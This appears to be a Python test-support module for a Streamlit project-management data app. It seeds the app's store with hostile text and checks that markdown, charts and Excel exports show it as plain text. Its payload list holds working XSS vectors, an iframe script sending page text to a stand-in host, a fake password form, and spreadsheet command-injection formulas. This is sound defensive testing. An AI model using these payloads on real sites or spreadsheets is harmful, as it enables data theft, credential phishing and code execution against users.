"""A store full of hostile text, and the checks that it is shown as text.

The payloads: the ones issue 16 found (script in an iframe's srcdoc posting the page to another
server, a <style> hiding the sidebar, a fake password form, <object>/<meta refresh>, a markdown
sign-in link and external image, spreadsheet formulas), classic vectors from OWASP's XSS filter
evasion cheat sheet, and Streamlit's own markdown directives. Every free-text and id column of
every entity gets one in front of its real value (the same value always gets the same payload,
so ids still join across entities and people still own their rows). Enumerated columns (RAG,
stage, tier, status, ...) keep valid values: the importer rejects anything else there, so
hostile text cannot reach them.
"""

from __future__ import annotations

import io
import json
import re
import zlib

import openpyxl
from markdown_it import MarkdownIt

from pmo_data.demo.generate import load_demo
from pmo_data.exports import is_formula_like
from pmo_data.schema import ENTITIES
from pmo_data.store.versions import Store

EVIL = "http://127.0.0.1:9/x"  # a foreign host: nothing may ever be requested from it
PAYLOADS = [
    # issue 16
    f"<iframe srcdoc=\"<script>fetch('{EVIL}?d='+encodeURIComponent(parent.document"
    ".querySelector('[data-testid=stMain]').innerText))</script>\"></iframe>",
    "<style>section[data-testid=stSidebar]{display:none!important}</style>",
    "<form action='" + EVIL + "'><input type=password name=p placeholder='Password'></form>",
    f"<iframe src='{EVIL}'></iframe>",
    f"<object data='{EVIL}'></object>",
    f"<meta http-equiv='refresh' content='0;url={EVIL}'>",
    f"[Session expired: sign in again]({EVIL}) ![b]({EVIL}.png)",
    '=HYPERLINK("http://example.invalid","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # OWASP XSS filter evasion cheat sheet (a selection of its classic vectors)
    "<SCRIPT SRC=http://127.0.0.1:9/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://127.0.0.1:9/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//127.0.0.1:9/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    '<LINK REL="stylesheet" HREF="http://127.0.0.1:9/xss.css">',
    "<STYLE>@import'http://127.0.0.1:9/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://127.0.0.1:9/xss.css>; REL=stylesheet">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<EMBED SRC="http://127.0.0.1:9/xss.swf" AllowScriptAccess="always"></EMBED>',
    '<a href="javascript&colon;alert(1)">click</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # markdown and Streamlit's markdown extensions
    f"<{EVIL}> www.example.invalid evil@example.invalid",
    "**bold** _it_ `code` ~~gone~~ # heading",
    ":red[red text] :material/warning: $\\href{javascript:alert(1)}{x}$",
    f"![img]({EVIL}/i.png)",
    "&lt;b&gt;entity&lt;/b&gt; &#60;i&#62;",
    "line one\n\n# line two heading\n- list item\n> quote",
]
FORMULA_PAYLOADS = [p for p in PAYLOADS if is_formula_like(p)]


def hostile(value: object) -> object:
    """The value with a payload in front (text only; the same value, the same payload)."""
    if not isinstance(value, str) or not value:
        return value
    return f"{PAYLOADS[zlib.crc32(value.encode()) % len(PAYLOADS)]} {value}"


def text_columns(name: str) -> list[str]:
    return [c.name for c in ENTITIES[name].columns if c.kind in ("id", "text")]


def hostile_store(path: str, scale: float = 0.05) -> Store:
    """The demo at a small scale, every free-text and id value prefixed with a payload."""
    store = Store(path)
    load_demo(store, scale=scale)
    frames = {}
    for name in ENTITIES:
        df = store.frame(name)
        for col in text_columns(name):
            df[col] = df[col].map(hostile, na_action="ignore")
        frames[name] = df
    store.write_version(frames, action="import", user="hostile", note="hostile text")
    return store


# -- what "renders as text" means ----------------------------------------------------------------
_MD = MarkdownIt("gfm-like")
FORBIDDEN_TOKENS = {"link_open", "image", "html_inline", "html_block"}


# GFM autolink literals, which Streamlit's markdown finds in text after escapes are resolved
AUTOLINK = re.compile(r"(?i)(?<![\w.])(https?://|www\.)\S|[\w.+-]@[\w-]+\.\w")


def markdown_injections(text: str) -> list[str]:
    """Links, images and HTML that markdown `text` would render (none may come from data)."""
    out = []
    for token in _MD.parse(text):
        for t in [token, *(token.children or [])]:
            if t.type in FORBIDDEN_TOKENS:
                out.append(f"{t.type}: {t.content or t.attrs}")
            if t.type == "text" and AUTOLINK.search(t.content):
                out.append(f"autolink: {t.content[:60]}")
    return out


MARKDOWN_VALUES = (
    "markdown",
    "caption",
    "title",
    "header",
    "subheader",
    "info",
    "warning",
    "error",
    "success",
    "toast",
)
LABELLED = (
    "button",
    "checkbox",
    "toggle",
    "selectbox",
    "multiselect",
    "radio",
    "text_input",
    "number_input",
    "slider",
    "select_slider",
    "date_input",
    "text_area",
    "metric",
    "expander",
    "tab",
    "status",
    "download_button",
    "popover",
)


def markdown_texts(at) -> list[str]:
    """Every piece of text on the page Streamlit renders as markdown."""
    out = []
    for kind in MARKDOWN_VALUES:
        out += [e.value for e in at.get(kind)]
    for kind in LABELLED:
        for e in at.get(kind):
            proto = getattr(e, "proto", None)
            for attr in ("label", "help"):
                value = getattr(proto, attr, None) if proto is not None else None
                if isinstance(value, str) and value:
                    out.append(value)
    return out


def chart_injections(at) -> list[str]:
    """Data values in charts that Plotly would draw as markup (`<a href>`, `<b>`...)."""
    out = []
    for chart in at.get("plotly_chart"):
        for trace in json.loads(chart.proto.spec).get("data", []):
            for key in ("x", "y", "text", "labels", "parents", "ids", "customdata", "hovertext"):
                stack = [trace.get(key)]
                while stack:
                    v = stack.pop()
                    if isinstance(v, list):
                        stack += v
                    elif isinstance(v, str) and "<" in v:
                        out.append(f"{key}: {v[:60]}")
            if "<" in str(trace.get("name") or ""):
                out.append(f"name: {trace['name'][:60]}")
    return out


def workbook_formulas(data: bytes) -> list[str]:
    """Cells Excel would evaluate: formula cells, or formula-like text without quote prefix."""
    bad = []
    for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (is_formula_like(c.value) and not c.quotePrefix):
                    bad.append(f"{ws.title}!{c.coordinate}: {c.value!r}"[:80])
    return bad
